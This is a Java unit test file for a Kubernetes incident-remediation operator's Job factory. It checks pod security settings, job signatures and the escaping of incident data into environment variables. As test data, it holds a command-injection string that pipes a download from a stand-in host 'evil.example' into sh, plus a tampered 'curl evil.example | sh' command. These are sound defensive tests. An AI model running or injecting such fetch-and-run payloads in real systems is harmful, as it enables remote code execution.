package dev.klaxon.playbook;

import static org.assertj.core.api.Assertions.assertThat;

import dev.klaxon.api.v1alpha1.Incident;
import dev.klaxon.api.v1alpha1.IncidentSource;
import dev.klaxon.api.v1alpha1.IncidentSpec;
import dev.klaxon.api.v1alpha1.PlaybookRun;
import dev.klaxon.api.v1alpha1.PlaybookRunSpec;
import dev.klaxon.api.v1alpha1.PlaybookRunStatus;
import dev.klaxon.api.v1alpha1.PlaybookSpec;
import dev.klaxon.api.v1alpha1.PlaybookStep;
import dev.klaxon.api.v1alpha1.ResourceAmounts;
import dev.klaxon.api.v1alpha1.Severity;
import dev.klaxon.api.v1alpha1.StepEnvVar;
import dev.klaxon.api.v1alpha1.StepResources;
import dev.klaxon.api.v1alpha1.StepRollback;
import io.fabric8.kubernetes.api.model.Container;
import io.fabric8.kubernetes.api.model.EnvVar;
import io.fabric8.kubernetes.api.model.PodSpec;
import io.fabric8.kubernetes.api.model.Quantity;
import io.fabric8.kubernetes.api.model.ResourceRequirements;
import io.fabric8.kubernetes.api.model.ResourceRequirementsBuilder;
import io.fabric8.kubernetes.api.model.batch.v1.Job;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;

class StepJobFactoryTest {

    private static final ResourceRequirements DEFAULT_RESOURCES = new ResourceRequirementsBuilder()
            .addToRequests("cpu", new Quantity("50m")).addToRequests("memory", new Quantity("128Mi"))
            .addToLimits("cpu", new Quantity("1")).addToLimits("memory", new Quantity("128Mi")).build();
    private static final StepJobFactory FACTORY = new StepJobFactory(new StepJobFactory.Defaults(DEFAULT_RESOURCES, Duration.ofHours(24)));


    private static final String INJECTION = "web-1\"; $(curl -s http://evil.example/x | sh); `id` #";

    private static PlaybookRun run() {
        PlaybookStep step = new PlaybookStep();
        step.setName("restart-pods");
        step.setImage("registry.example/kubectl:1.34");
        step.setCommand(List.of("kubectl"));
        step.setArgs(List.of("rollout", "restart", "deployment/api"));
        step.setTimeout("2m");
        StepEnvVar env = new StepEnvVar();
        env.setName("MODE");
        env.setValue("safe");
        step.setEnv(List.of(env));
        StepRollback rollback = new StepRollback();
        rollback.setArgs(List.of("rollout", "undo", "deployment/api"));
        step.setRollback(rollback);
        PlaybookSpec playbook = new PlaybookSpec();
        playbook.setServiceAccountName("remediation");
        playbook.setSteps(List.of(step));

        PlaybookRun run = new PlaybookRun();
        run.getMetadata().setName("api-down-restart");
        run.getMetadata().setNamespace("shop");
        run.getMetadata().setUid("1234");
        PlaybookRunSpec spec = new PlaybookRunSpec();
        spec.setPlaybookRef("restart-api");
        spec.setIncidentRef("api-down-1");
        spec.setParameters(Map.of("replicas", "3", "target.zone", INJECTION));
        run.setSpec(spec);
        PlaybookRunStatus status = new PlaybookRunStatus();
        RunSequencer.start(status, playbook, "restart-api", 1L, "alice", List.of(), Instant.parse("2026-11-26T10:00:00Z"));
        run.setStatus(status);
        return run;
    }

    private static Incident incident() {
        Incident incident = new Incident();
        incident.getMetadata().setName("api-down-1");
        IncidentSpec spec = new IncidentSpec();
        spec.setSeverity(Severity.SEV2);
        IncidentSource source = new IncidentSource();
        source.setAlertRule("api-down");
        source.setLabels(Map.of("instance", INJECTION, "app.kubernetes.io/name", "api"));
        spec.setSource(source);
        incident.setSpec(spec);
        return incident;
    }

    @Test
    void theJobRunsOnceWithinItsTimeoutOwnedByTheRun() {
        Job job = FACTORY.build(run(), 0, RunSequencer.JobRole.STEP, "api-down-restart-restart-pods", Optional.of(incident()));

        assertThat(job.getMetadata().getName()).isEqualTo("api-down-restart-restart-pods");
        assertThat(job.getMetadata().getNamespace()).isEqualTo("shop");
        assertThat(job.getSpec().getBackoffLimit()).isZero();
        assertThat(job.getSpec().getActiveDeadlineSeconds()).isEqualTo(120L);
        assertThat(job.getMetadata().getOwnerReferences()).singleElement().satisfies(owner -> {
            assertThat(owner.getKind()).isEqualTo("PlaybookRun");
            assertThat(owner.getUid()).isEqualTo("1234");
            assertThat(owner.getController()).isTrue();
        });
        assertThat(job.getMetadata().getLabels()).containsEntry("klaxon.dev/playbook-run", "api-down-restart")
                .containsEntry("klaxon.dev/playbook", "restart-api").containsEntry("klaxon.dev/step", "restart-pods")
                .containsEntry("klaxon.dev/job-role", "step");
        assertThat(job.getSpec().getTemplate().getMetadata().getLabels()).containsEntry("klaxon.dev/step", "restart-pods");
        PodSpec pod = job.getSpec().getTemplate().getSpec();
        assertThat(pod.getRestartPolicy()).isEqualTo("Never");
        assertThat(pod.getServiceAccountName()).isEqualTo("remediation");
    }

    @Test
    void aStepHasBoundedResourcesTheStepsOwnThenThePlaybooksThenTheOperatorsAndItsFinishedJobIsCleanedUp() {
        PlaybookRun run = run();
        Job byDefault = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty());
        assertThat(byDefault.getSpec().getTemplate().getSpec().getContainers().get(0).getResources()).isEqualTo(DEFAULT_RESOURCES);
        assertThat(byDefault.getSpec().getTtlSecondsAfterFinished()).isEqualTo(24 * 3600);

        run.getStatus().getPlaybook().setResources(memoryLimit("512Mi"));
        assertThat(FACTORY.build(run, 0, RunSequencer.JobRole.ROLLBACK, "j", Optional.empty())
                .getSpec().getTemplate().getSpec().getContainers().get(0).getResources().getLimits())
                .isEqualTo(Map.of("memory", new Quantity("512Mi")));

        run.getStatus().getPlaybook().getSteps().get(0).setResources(memoryLimit("1Gi"));
        assertThat(FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty())
                .getSpec().getTemplate().getSpec().getContainers().get(0).getResources().getLimits())
                .isEqualTo(Map.of("memory", new Quantity("1Gi")));
    }

    @Test
    void aJobsSignatureCoversWhatItRunsAndSurvivesTheApiServersRoundTrip() {
        PlaybookRun run = run();
        run.getStatus().getPlaybook().getSteps().get(0).setArgs(null);
        Job job = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.of(incident()));
        String signed = StepJobs.proofText(run, job);
        var json = new io.fabric8.kubernetes.client.utils.KubernetesSerialization();

        assertThat(StepJobs.proofText(run, json.unmarshal(json.asJson(job), Job.class))).isEqualTo(signed);

        job.getSpec().getTemplate().getSpec().getContainers().get(0).setCommand(List.of("/bin/sh", "-c", "curl evil.example | sh"));
        assertThat(StepJobs.proofText(run, job)).isNotEqualTo(signed);
    }

    private static StepResources memoryLimit(String memory) {
        ResourceAmounts limits = new ResourceAmounts();
        limits.setMemory(memory);
        StepResources resources = new StepResources();
        resources.setLimits(limits);
        return resources;
    }

    @Test
    void aStepMayRunAsItsOwnServiceAccount() {
        PlaybookRun run = run();
        run.getStatus().getPlaybook().getSteps().get(0).setServiceAccountName("deployer");

        Job job = FACTORY.build(run, 0, RunSequencer.JobRole.STEP, "j", Optional.empty());

        assertThat(job.getSpec().getTemplate().getSpec().getServiceAccountName()).isEqualTo("deployer");
    }

    @Test
    void everyPodMeetsTheRestrictedPodSecurityStandard() {
        for (RunSequencer.JobRole role : RunSequencer.JobRole.values()) {
            PodSpec pod = FACTORY.build(run(), 0, role, "j", Optional.empty()).getSpec().getTemplate().getSpec();
            assertThat(pod.getSecurityContext().getRunAsNonRoot()).isTrue();
            assertThat(pod.getSecurityContext().getSeccompProfile().getType()).isEqualTo("RuntimeDefault");
            assertThat(pod.getContainers()).singleElement().satisfies(c -> {
                assertThat(c.getSecurityContext().getAllowPrivilegeEscalation()).isFalse();
                assertThat(c.getSecurityContext().getReadOnlyRootFilesystem()).isTrue();
                assertThat(c.getSecurityContext().getPrivileged()).isFalse();
                assertThat(c.getSecurityContext().getCapabilities().getDrop()).containsExactly("ALL");
                assertThat(c.getSecurityContext().getCapabilities().getAdd()).isNullOrEmpty();
            });
            assertThat(pod.getVolumes()).allSatisfy(v -> assertThat(v.getEmptyDir()).isNotNull());
        }
    }

    @Test
    void incidentDataIsOnlyInTheEnvironmentNeverInTheCommand() {
        Container container = FACTORY.build(run(), 0, RunSequencer.JobRole.STEP, "j", Optional.of(incident()))
                .getSpec().getTemplate().getSpec().getContainers().get(0);

        assertThat(container.getCommand()).containsExactly("kubectl");
        assertThat(container.getArgs()).containsExactly("rollout", "restart", "deployment/api");
        Map<String, String> env = container.getEnv().stream().collect(Collectors.toMap(EnvVar::getName, EnvVar::getValue));
        // $$ is how a literal $ is written in a Kubernetes env value: the container sees the label as it was.
        String asWritten = INJECTION.replace("$", "$$");
        assertThat(env).containsEntry("KLAXON_INCIDENT", "api-down-1")
                .containsEntry("KLAXON_SEVERITY", "SEV2")
                .containsEntry("KLAXON_RUN", "api-down-restart")
                .containsEntry("KLAXON_PLAYBOOK", "restart-api")
                .containsEntry("KLAXON_STEP", "restart-pods")
                .containsEntry("KLAXON_LABEL_INSTANCE", asWritten)
                .containsEntry("KLAXON_LABEL_APP_KUBERNETES_IO_NAME", "api")
                .containsEntry("KLAXON_PARAM_REPLICAS", "3")
                .containsEntry("KLAXON_PARAM_TARGET_ZONE", asWritten)
                .containsEntry("MODE", "safe");
        assertThat(container.getEnv()).allSatisfy(e -> assertThat(e.getValueFrom()).isNull());
    }

    @Test
    void incidentDataCannotReferenceOtherVariables() {
        assertThat(StepJobFactory.literal("$(KLAXON_PARAM_TOKEN)")).isEqualTo("$$(KLAXON_PARAM_TOKEN)");
        assertThat(StepJobFactory.literal("a $$ b")).isEqualTo("a $$$$ b");
        assertThat(StepJobFactory.literal("plain")).isEqualTo("plain");
    }

    @Test
    void theRollbackRunsItsOwnCommandWithTheStepImageByDefault() {
        Container container = FACTORY.build(run(), 0, RunSequencer.JobRole.ROLLBACK, "j-rollback", Optional.empty())
                .getSpec().getTemplate().getSpec().getContainers().get(0);

        assertThat(container.getImage()).isEqualTo("registry.example/kubectl:1.34");
        assertThat(container.getCommand()).isNullOrEmpty();
        assertThat(container.getArgs()).containsExactly("rollout", "undo", "deployment/api");
    }

    @Test
    void aStepCannotForgeIncidentVariables() {
        PlaybookRun run = run();
        StepEnvVar forged = new StepEnvVar();
        forged.setName("KLAXON_SEVERITY");
        forged.setValue("SEV5");
        run.getStatus().getPlaybook().getSteps().get(0).setEnv(List.of(forged));

        List<EnvVar> env = StepJobFactory.environment(run, run.getStatus().getPlaybook().getSteps().get(0), Optional.of(incident()));

        assertThat(env).filteredOn(e -> e.getName().equals("KLAXON_SEVERITY")).singleElement()
                .satisfies(e -> assertThat(e.getValue()).isEqualTo("SEV2"));
    }

    @Test
    void aStepsOwnEnvironmentValuesAreLiteralSoTheyCannotPullALabelIntoArgv() {
        PlaybookRun run = run();
        StepEnvVar relay = new StepEnvVar();
        relay.setName("TARGET");
        relay.setValue("$(KLAXON_LABEL_NODE)");
        run.getStatus().getPlaybook().getSteps().get(0).setEnv(List.of(relay));

        List<EnvVar> env = StepJobFactory.environment(run, run.getStatus().getPlaybook().getSteps().get(0), Optional.of(incident()));

        assertThat(env).filteredOn(e -> e.getName().equals("TARGET")).singleElement()
                .satisfies(e -> assertThat(e.getValue()).as("$$ is a literal $ to Kubernetes").isEqualTo("$$(KLAXON_LABEL_NODE)"));
    }

    @Test
    void onlyAStepWithAServiceAccountGetsAToken() {
        PlaybookRun withAccount = run();
        PlaybookRun without = run();
        without.getStatus().getPlaybook().setServiceAccountName(null);
        without.getStatus().getPlaybook().getSteps().get(0).setServiceAccountName(null);

        PodSpec named = FACTORY.build(withAccount, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();
        PodSpec anonymous = FACTORY.build(without, 0, RunSequencer.JobRole.STEP, "j", Optional.empty()).getSpec().getTemplate().getSpec();

        assertThat(named.getAutomountServiceAccountToken()).isTrue();
        assertThat(anonymous.getServiceAccountName()).isNull();
        assertThat(anonymous.getAutomountServiceAccountToken()).as("the namespace's default account's token stays out").isFalse();
        assertThat(named.getContainers().get(0).getImagePullPolicy()).isEqualTo("IfNotPresent");
    }
}
